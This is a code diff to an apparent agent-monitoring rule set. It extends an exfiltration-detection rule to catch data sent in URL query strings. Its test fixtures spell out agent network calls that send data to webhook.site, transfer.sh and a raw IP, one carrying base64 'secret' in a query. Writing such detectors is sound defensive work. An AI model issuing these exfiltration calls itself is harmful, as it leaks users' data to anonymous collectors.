@@ -594,16 +594,19 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EXFIL-010', name: 'network-call-sends-to-drop-service', score: 70, tactic: 'exfiltration', technique: 'T1567',
-    message: 'Network tool call sends a body to a paste site, webhook catcher, file drop or raw IP',
-    why: 'An agent posting data to an anonymous collector is leaking whatever it put in the body.',
+    message: 'Network tool call sends a body or query data to a paste site, webhook catcher, file drop or raw IP',
+    why: 'An agent posting data to an anonymous collector, or putting it in the query of a fetch there, is leaking whatever it sent.',
     check: (i) => {
-      if (i.call.kind !== 'network' || !(NETWORK_SEND.has(i.call.method.toUpperCase()) || i.call.body)) return undefined;
+      if (i.call.kind !== 'network') return undefined;
+      // a query string carries data as surely as a body does (`GET https://webhook.site/x?k=c2VjcmV0`)
+      const q = i.call.url.indexOf('?');
+      if (!(NETWORK_SEND.has(i.call.method.toUpperCase()) || i.call.body || (q > 0 && q < i.call.url.length - 1))) return undefined;
       const d = i.facts.destinations.find((x) => DROP_KINDS.has(x.kind));
       return d ? `${i.call.method} ${d.url ?? d.host}` : undefined;
     },
     examples: {
-      fire: [{ Network: { method: 'POST', url: 'https://webhook.site/6f0c1b9e', body: '{"k":"v"}' } }, { Network: { method: 'PUT', url: 'https://transfer.sh/x.txt', body: 'data' } }, { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }],
-      quiet: [{ Network: { method: 'GET', url: 'https://pastebin.com/raw/abc' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api', body: '{"a":1}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/x/y/issues', body: '{"title":"bug"}' } }],
+      fire: [{ Network: { method: 'POST', url: 'https://webhook.site/6f0c1b9e', body: '{"k":"v"}' } }, { Network: { method: 'PUT', url: 'https://transfer.sh/x.txt', body: 'data' } }, { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }, { Network: { method: 'GET', url: 'https://webhook.site/abc?k=c2VjcmV0' } }],
+      quiet: [{ Network: { method: 'GET', url: 'https://pastebin.com/raw/abc' } }, { Network: { method: 'GET', url: 'https://webhook.site/' } }, { Network: { method: 'GET', url: 'https://api.github.com/search/code?q=proxilion' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api', body: '{"a":1}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/x/y/issues', body: '{"title":"bug"}' } }],
     },
   },
   {
